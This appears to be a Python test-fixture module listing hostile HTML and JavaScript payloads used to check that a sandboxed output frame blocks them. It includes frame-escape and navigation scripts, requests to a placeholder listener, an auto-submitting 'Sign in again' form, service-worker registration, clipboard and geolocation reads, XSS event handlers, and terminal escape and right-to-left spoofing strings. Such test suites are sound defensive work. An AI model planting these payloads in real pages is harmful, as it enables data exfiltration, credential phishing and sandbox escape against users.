"""What hostile output tries, as HTML: requests to a listener, ways out of the frame, and what annoys the user.

`{url}` is the address of a listener that must hear nothing, and `{udp}` the port of one for UDP. A script says by
`window.ran` that it has run.
"""

SCRIPTS = {
    "H2 parent": "try { parent.document.title = 'stolen' } catch {} try { top.location = '{url}top' } catch {}",
    "H3 location": "setTimeout(() => { location = '{url}location' })",
    "H3 data address": "setTimeout(() => { location = 'data:text/html,<script>fetch(`{url}data`)<' + '/script>' })",
    "H4 requests": (
        "fetch('{url}fetch').catch(() => {}); navigator.sendBeacon('{url}beacon');"
        "try { new WebSocket('{ws}') } catch {}"
        "try { new EventSource('{url}events') } catch {} try { new Worker('{url}worker.js') } catch {}"
        "const x = new XMLHttpRequest(); try { x.open('GET', '{url}xhr'); x.send() } catch {}"
        "import('{url}module.js').catch(() => {})"
    ),
    "H7 form": (
        "document.body.innerHTML = '<form action={url}form><input name=a value=b></form>';document.forms[0].submit()"
    ),
    "H8 popup": (
        "open('{url}popup'); const a = document.createElement('a'); a.href = '{url}link'; a.target = '_top';"
        "document.body.append(a); a.click(); a.target = '_blank'; a.click()"
    ),
    "H9 dialogs": "alert(1); confirm(1); print()",
    "H10 storage": (
        "for (const name of ['localStorage', 'sessionStorage', 'indexedDB']) { try { window[name].x = 1 } catch {} }"
        "try { document.cookie = 'a=b' } catch {}"
        "new BroadcastChannel('cellvm.key').postMessage({ask: true});"
        "try { navigator.serviceWorker.register('{url}sw.js').catch(() => {}) } catch {}"
    ),
    "H11 WebRTC": (
        "try { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:{udp}'}]});"
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)) } catch {}"
        "const f = document.createElement('iframe'); f.srcdoc = '<script>new RTCPeerConnection({iceServers:"
        " [{urls: `stun:127.0.0.1:{udp}`}]}).createDataChannel(1)<' + '/script>'; document.body.append(f)"
    ),
    "H14 size": (
        "const d = document.createElement('div'); d.style.cssText = 'height:100000000px;position:relative';"
        "document.body.append(d); setInterval(() => d.scrollIntoView(), 50)"
    ),
    "H15 flood": "for (let n = 0; n < 20000; n += 1) { parent.postMessage({height: n, key: 1}, '*') }",
    "H16 history": (
        "history.back(); const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x';"
        "document.body.append(a); a.click(); navigator.clipboard?.readText().catch(() => {});"
        "navigator.geolocation.getCurrentPosition(() => {}, () => {})"
    ),
}
"""Scripts, for a live frame. In a still one none of them runs."""

MARKUP = {
    "H1 handlers": (
        "<img src=x onerror='window.ran=1'><a id=a href='javascript:window.ran=1'>x</a><body onload='window.ran=1'>"
        "<svg onload='window.ran=1'></svg><details open ontoggle='window.ran=1'></details>"
    ),
    "H3 refresh": "<meta http-equiv=refresh content='0;url={url}refresh'>",
    "H5 resources": (
        "<img src={url}img><link rel=stylesheet href={url}css><style>@import '{url}import';"
        "@font-face{font-family:x;src:url({url}font)} body{font-family:x;background:url({url}background)}</style>"
        "<link rel=prefetch href={url}prefetch><link rel=preload as=image href={url}preload>"
        "<link rel=dns-prefetch href={url}dns><link rel=preconnect href={url}preconnect>"
        "<video src={url}video poster={url}poster></video><audio src={url}audio>"
        "<base href={url}base>x"
    ),
    "H6 frames": (
        "<iframe src={url}iframe></iframe><iframe srcdoc='<script>fetch(`{url}srcdoc`)</script>'></iframe>"
        "<object data={url}object></object><embed src={url}embed>"
    ),
    "H7 form": "<form action={url}form><button autofocus>Sign in again</button></form>",
}
"""Markup without scripts of its own, for both kinds of frames."""

TEXT = (
    "<img src=x onerror=window.hacked=1>\x1b]8;;javascript:window.hacked=1\x07link\x1b]8;;\x07\x1b]52;c;aGFja2Vk\x07"
    "\u202egnp.exe\u202c<script>window.hacked=1</script>"
)
"""What output, names, prompts and errors may hold. It must show as text."""
